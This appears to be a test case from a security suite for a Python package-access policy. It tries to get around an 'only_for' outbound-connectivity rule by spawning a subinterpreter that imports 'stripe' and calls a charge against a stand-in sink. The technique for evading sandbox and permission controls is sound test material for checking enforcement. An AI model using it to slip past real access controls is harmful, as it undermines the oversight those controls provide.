# class: only_for
# rule: outbound_connectivity
# success: another interpreter in this process imports the allowed package
# proof: sink
# needs: packages, python>=3.9
# policy: only_for.yaml
# says: "asker": "unknown"
import sys

from attack import SINK, attempt


@attempt
def subinterpreter():
    try:
        import _interpreters as interpreters
    except ImportError:
        import _xxsubinterpreters as interpreters
    source = "import sys\nsys.path.insert(0, %r)\nimport stripe\nstripe.charge(%r)" % (
        sys.path[0],
        SINK,
    )
    own = interpreters.create()
    run = getattr(interpreters, "exec", None) or interpreters.run_string
    failed = run(own, source)
    return failed is None
